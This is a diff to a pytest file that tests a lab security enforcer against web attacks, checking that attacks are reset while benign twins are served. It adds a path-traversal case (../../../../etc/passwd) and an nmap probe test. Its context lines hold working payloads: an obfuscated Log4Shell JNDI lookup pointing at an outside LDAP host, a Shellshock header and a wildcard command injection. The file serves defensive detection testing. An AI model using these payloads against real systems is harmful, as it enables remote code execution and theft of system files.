@@ -1,10 +1,11 @@
 """Command injection (in a query, a form, and Shellshock in a header), LDAP injection, SQLi and XSS in a
-multipart form, and Log4Shell in a header, from a real client (curl) through the real enforcer to a real
-web app (`lab.vulnapp`) in the lab: in Protect the attack's connection is reset before any answer and a
-`threat` event says why, its benign twin (the same parameter, look-alike text) is answered 200 before and
-after; in Monitor the same attacks are answered and reported. The multipart forms carry an 8 KiB upload
-of an HTML page full of script before the field (`curl -F`): the field arrives in a later body part, and
-the page is no attack."""
+multipart form, Log4Shell in a header and path traversal in a query, from a real client (curl) through
+the real enforcer to a real web app (`lab.vulnapp`) in the lab: in Protect the attack's connection is
+reset before any answer and a `threat` event says why, its benign twin (the same parameter, look-alike
+text) is answered 200 before and after; in Monitor the same attacks are answered and reported. The
+multipart forms carry an 8 KiB upload of an HTML page full of script before the field (`curl -F`): the
+field arrives in a later body part, and the page is no attack. A real scanner's traversal probes (nmap's
+`http-passwd`) are reset too."""
 
 from __future__ import annotations
 
@@ -13,6 +14,7 @@ from pathlib import Path
 
 import pytest
 
+from lab.attacks import nmap_http_passwd
 from lab.enforcer import LabEnforcer
 from lab.http import http_status
 from lab.topology import Lab
@@ -44,6 +46,7 @@ CASES = [
     ("log4shell", "header", "/search?q=widget", "X-Api-Version: ${${::-j}${lower:N}di:ldap://198.18.0.9:1389/a}", "X-Api-Version: ${project.version}"),
     ("command_injection", "header", "/cgi-bin/status", "User-Agent: () { :;}; echo vulnerable", "User-Agent: Mozilla/5.0 (X11; Linux x86_64) Firefox/125.0 { beta }"),
     ("command_injection", "query", "/run", "cmd=/???/?at /???/hos?s", "cmd=/var/log/app-*.log"),
+    ("path_traversal", "query", "/download", "file=../../../../etc/passwd", "file=../img/logo.png"),
 ]  # fmt: skip
 PAGE = "<p><script>document.title = 'shop'</script><img src=x onerror=retry()></p>\n" * 110  # ~8 KiB
 
@@ -100,6 +103,17 @@ def test_an_injection_is_reset_in_protect_and_its_benign_twin_served(
     assert event["action"] == "reset" and event["group"] == "web", event
     # (the twin's 200 shows it raised nothing: in Protect a detection resets the connection)
     assert send(lab, addr, how, path, benign, page) == "200"  # the same client, served after the attack
+
+
+def test_nmaps_traversal_probes_are_path_traversal_and_reset(lab: Lab, enforcer: LabEnforcer) -> None:
+    # a real scanner's probes (nmap's http-passwd script: raw `/../` paths, encoded and in a query)
+    addr = lab.host("s1").ipv4
+    before = len(threat_events(enforcer, "path_traversal", 0, timeout=0, dst=addr))
+    nmap_http_passwd(lab, "c1", addr, PORT)
+    found = threat_events(enforcer, "path_traversal", before + 1, dst=addr)
+    assert len(found) > before, [ev.get("name") for ev in enforcer.events()]
+    assert {ev["action"] for ev in found[before:]} == {"reset"}
+    assert send(lab, addr, "query", "/download", "file=../img/logo.png", Path()) == "200"  # still served
 
 
 @pytest.mark.parametrize(("threat", "how", "path", "attack", "benign"), CASES)
